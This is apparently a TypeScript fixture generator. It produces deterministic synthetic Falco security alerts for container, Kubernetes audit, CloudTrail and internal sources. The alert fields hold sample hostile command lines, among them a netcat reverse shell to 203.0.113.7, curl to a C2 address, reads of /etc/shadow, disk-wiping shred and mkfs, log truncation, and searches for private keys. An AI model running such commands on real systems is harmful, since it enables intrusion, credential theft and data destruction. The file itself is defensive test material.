/** A value of Falco's output fields. */
export type FieldValue = string | number | bigint | boolean | null | readonly string[];

export interface Alert {
  readonly rule: string;
  readonly priority: string;
  readonly source: string;
  /** Falco's internal alerts have none. */
  readonly tags?: readonly string[];
  readonly output: string;
  readonly fields: Readonly<Record<string, FieldValue>>;
  /** The text field that may be as long as is wished. */
  readonly growing: string;
}

const users = ["root", "deploy", "www-data", "postgres", "søren", "管理者", "ci-runner", "nobody"];
const images = ["docker.io/library/nginx", "quay.io/team/api", "ghcr.io/shop/cart", "registry.k8s.io/pause"];
const namespaces = ["shop", "payments", "kube-system", "données", "ingress"];
const words = [
  "--config",
  "/etc/app/conf.d",
  "--verbose",
  "--user=app",
  "-o",
  "json",
  "/var/lib/data",
  "x86_64",
];
const baseNs = 1_780_391_647_123_456_789n;

/** What differs from alert to alert: drawn from its number alone, so that each run has the same. */
export class Values {
  readonly #index: number;
  #state: number;

  constructor(index: number) {
    this.#index = index;
    this.#state = (index + 1) * 0x9e3779b1;
  }

  /** From 0 to 1, the next of a fixed sequence (mulberry32). */
  fraction(): number {
    this.#state = (this.#state + 0x6d2b79f5) | 0;
    let mixed = Math.imul(this.#state ^ (this.#state >>> 15), this.#state | 1);
    mixed ^= mixed + Math.imul(mixed ^ (mixed >>> 7), mixed | 61);
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 2 ** 32;
  }

  below(limit: number): number {
    return Math.floor(this.fraction() * limit);
  }

  pick<T>(choices: readonly T[]): T {
    return choices[this.below(choices.length)]!;
  }

  hex(digits: number): string {
    return Array.from({ length: digits }, () => this.below(16).toString(16)).join("");
  }

  /** Arguments of a command, `length` characters of them (none if it is negative). */
  words(length: number): string {
    let text = "";
    while (text.length < length) text += ` ${this.pick(words)}`;
    return text.slice(0, Math.max(0, length));
  }

  get ns(): bigint {
    return baseNs + BigInt(this.#index) * 1_234_567n;
  }

  /** RFC 3339 with nine digits. */
  get time(): string {
    const seconds = new Date(Number(this.ns / 1_000_000n)).toISOString().slice(0, 19);
    return `${seconds}.${String(this.ns % 1_000_000_000n).padStart(9, "0")}Z`;
  }

  get clock(): string {
    return this.time.slice(11, 29);
  }

  get hostname(): string {
    return `node-${this.#index % 7}`;
  }
}

/** What Falco's rules say of a process in a container. */
function processFields(v: Values, cmdline: string) {
  const name = cmdline.split(" ")[0]!;
  const namespace = v.pick(namespaces);
  return {
    "container.id": v.hex(12),
    "container.image.repository": v.pick(images),
    "container.image.tag": `1.${v.below(40)}`,
    "container.name": `${namespace}-${v.below(9)}`,
    "evt.time": v.ns,
    "k8s.ns.name": v.below(4) === 0 ? null : namespace,
    "k8s.pod.name": v.below(4) === 0 ? null : `${namespace}-${v.hex(9)}-${v.hex(5)}`,
    "proc.cmdline": cmdline,
    "proc.exepath": `/usr/bin/${name}`,
    "proc.name": name,
    "proc.pname": v.pick(["bash", "runc", "sshd", "containerd-shim"]),
    "user.loginuid": v.pick([-1, 1000, 1001]),
    "user.name": v.pick(users),
    "user.uid": v.pick([0, 33, 1000, 4294967295]),
  };
}

interface ProcessRule {
  rule: string;
  priority: string;
  tags: readonly string[];
  sentence: string;
  cmdlines: readonly string[];
  more?: (v: Values) => Record<string, FieldValue>;
}

function processRule({ rule, priority, tags, sentence, cmdlines, more = () => ({}) }: ProcessRule) {
  return (v: Values): Alert => {
    const fields = { ...processFields(v, v.pick(cmdlines)), ...more(v) };
    const output = `${sentence} | user=${fields["user.name"]} command=${fields["proc.cmdline"]}`;
    return { rule, priority, source: "syscall", tags, output, fields, growing: "proc.cmdline" };
  };
}

/** Rules of Falco's own, of its plugins and of its inside: one alert of each in turn. */
export const rules: readonly ((v: Values) => Alert)[] = [
  processRule({
    rule: "Terminal shell in container",
    priority: "Notice",
    tags: ["T1059", "container", "maturity_stable", "mitre_execution", "shell"],
    sentence: "A shell was spawned in a container with an attached terminal",
    cmdlines: ["bash", "sh -i", "zsh"],
    more: (v) => ({ "evt.type": "execve", "proc.tty": 34816 + v.below(9) }),
  }),
  processRule({
    rule: "Read sensitive file untrusted",
    priority: "Warning",
    tags: ["T1555", "container", "filesystem", "host", "mitre_credential_access"],
    sentence: "Sensitive file opened for reading by non-trusted program",
    cmdlines: ["cat /etc/shadow", "less /etc/sudoers"],
    more: () => ({ "evt.type": "openat", "fd.name": "/etc/shadow", "proc.aname[2]": "sshd" }),
  }),
  processRule({
    rule: "Drop and execute new binary in container",
    priority: "Critical",
    tags: ["PCI_DSS_11.5.1", "TA0003", "container", "process"],
    sentence: "Executing binary not part of base image",
    cmdlines: ["kworker -o pool.example:3333", "xmrig --donate-level 1"],
    more: (v) => ({
      "container.image.digest": [`sha256:${v.hex(6)}`, `sha256:${v.hex(6)}`],
      "proc.is_exe_upper_layer": true,
    }),
  }),
  processRule({
    rule: "Write below etc",
    priority: "Error",
    tags: ["filesystem", "host", "mitre_persistence"],
    sentence: "File below /etc opened for writing",
    cmdlines: ['sh -c "echo 1 > /etc/cron.d/x"', "vim /etc/passwd"],
    more: (v) => ({ "evt.type": "openat", "fd.name": `/etc/cron.d/${v.hex(6)}`, "proc.aname[3]": null }),
  }),
  processRule({
    rule: "Netcat Remote Code Execution in Container",
    priority: "Warning",
    tags: ["container", "mitre_execution", "network", "process"],
    sentence: "Netcat runs inside container that allows remote code execution",
    cmdlines: ["nc -e /bin/sh 203.0.113.7 4444", "ncat --exec bash -l 31337"],
  }),
  processRule({
    rule: "Outbound connection to C2 servers",
    priority: "Warning",
    tags: ["TA0011", "container", "host", "network"],
    sentence: "Outbound connection to C2 server",
    cmdlines: ["curl https://198.51.100.9/update", "wget -q http://exämple.test/ß"],
    more: (v) => ({
      "fd.name": `10.0.4.7:${20000 + v.below(40000)}->198.51.100.9:443`,
      "fd.rport": 443,
      "fd.sip.name": "exämple.test",
    }),
  }),
  processRule({
    rule: "Clear Log Activities",
    priority: "Warning",
    tags: ["NIST_800-53_AU-10", "container", "filesystem", "host"],
    sentence: "Log files were tampered",
    cmdlines: ["truncate -s 0 /var/log/auth.log", "rm /var/log/journal/ö.log"],
    more: () => ({ "evt.type": "openat", "fd.name": "/var/log/auth.log" }),
  }),
  processRule({
    rule: "Remove Bulk Data from Disk",
    priority: "Emergency",
    tags: ["T1485", "container", "filesystem", "host", "process"],
    sentence: "Bulk data has been removed from disk",
    cmdlines: ["shred -u /var/lib/db/*", "mkfs.ext4 /dev/sdb"],
  }),
  processRule({
    rule: "Search Private Keys or Passwords",
    priority: "Warning",
    tags: ["container", "filesystem", "host", "process"],
    sentence: "Grep private keys or passwords activities found",
    cmdlines: ['grep -r "BEGIN RSA" /home', "find / -name id_ed25519"],
  }),
  processRule({
    rule: "Launch Privileged Container",
    priority: "Informational",
    tags: ["cis", "container", "mitre_privilege_escalation"],
    sentence: "Privileged container started",
    cmdlines: ["container:4f1d9a0b7c2e"],
    more: () => ({ "container.privileged": true, "container.start_ts": 1_780_391_647_000_000_000n }),
  }),
  processRule({
    rule: "Modify Shell Configuration File",
    priority: "Warning",
    tags: ["T1546.004", "filesystem", "mitre_persistence"],
    sentence: "A shell configuration file has been modified",
    cmdlines: ["tee -a /root/.bashrc", "sed -i s/a/b/ /home/søren/.profile"],
    more: () => ({ "fd.name": "/root/.bashrc", "proc.vpid": 1 }),
  }),
  processRule({
    rule: "Packet socket created in container",
    priority: "Notice",
    tags: ["container", "mitre_credential_access", "network"],
    sentence: "Packet socket was created in a container",
    cmdlines: ["tcpdump -i eth0", "python3 sniff.py"],
    more: () => ({ "evt.arg.domain": "AF_PACKET", "evt.arg.type": "SOCK_RAW" }),
  }),
  processRule({
    rule: "Debugfs Launched in Privileged Container",
    priority: "Warning",
    tags: ["T1611", "cis", "container", "process"],
    sentence: "Debugfs launched started in a privileged container",
    cmdlines: ["debugfs -w /dev/sda1"],
    more: () => ({ "proc.aname[2]": "bash", "proc.aname[3]": null }),
  }),
  processRule({
    rule: "System user interactive",
    priority: "Informational",
    tags: ["container", "host", "mitre_execution", "users"],
    sentence: "System user ran an interactive command",
    cmdlines: ["login", "su -l démon"],
    more: (v) => ({ "evt.time.iso8601": v.ns, "proc.tty": 0 }),
  }),
  (v) => {
    const user = v.pick(["system:serviceaccount:ci:runner", "rené@example.test"]);
    const uri = "/api/v1/namespaces/prod/pods/web-0/exec?command=sh&stdin=true&stdout=true&tty=true";
    return {
      rule: "Attach/Exec Pod",
      priority: "Notice",
      source: "k8s_audit",
      tags: ["k8s"],
      output: `Attach/Exec to pod (user=${user} pod=web-0 resource=pods ns=prod action=exec command=sh)`,
      fields: {
        "jevt.time": v.clock,
        "ka.response.code": 101,
        "ka.target.name": "web-0",
        "ka.target.namespace": "prod",
        "ka.target.resource": "pods",
        "ka.target.subresource": "exec",
        "ka.uri": uri,
        "ka.uri.param[stdin]": true,
        "ka.user.name": user,
        "ka.verb": "create",
      },
      growing: "ka.uri",
    };
  },
  (v) => {
    const ip = `203.0.113.${v.below(255)}`;
    return {
      rule: "Console Login Without MFA",
      priority: "Critical",
      source: "aws_cloudtrail",
      tags: ["aws", "aws_console", "aws_iam", "cloud"],
      output: `Detected a console login without MFA | requesting user=alice, requesting IP=${ip}, AWS region=eu-central-1`,
      fields: {
        "ct.name": "ConsoleLogin",
        "ct.region": "eu-central-1",
        "ct.request": '{"userName":"alice","note":"naïve ✓ 🦅"}',
        "ct.srcip": ip,
        "ct.user": "alice",
        "ct.user.accountid": "123456789012",
        "evt.time": v.ns,
      },
      growing: "ct.request",
    };
  },
  (v) => ({
    rule: "Falco internal: metrics snapshot",
    priority: "Informational",
    source: "internal",
    output: "Falco metrics snapshot",
    fields: {
      "evt.time": v.ns,
      "falco.cpu_usage_perc": v.below(1000) / 10,
      "falco.duration_sec": 3600 + v.below(3600),
      "falco.host_boot_ts": 1_780_000_000_000_000_000n,
      "falco.kernel_release": "6.12.0-generic",
      "falco.memory_rss_mb": 71.5,
      "falco.num_evts": 18_446_744_073_709_551_615n,
      "falco.outputs_queue_num_drops": 0,
      "falco.version": "0.44.1",
      "scap.engine_name": "modern_bpf",
      "scap.evts_drop_rate_sec": 0,
      "scap.n_evts": 1_000_000 + v.below(1_000_000),
    },
    growing: "falco.kernel_release",
  }),
];
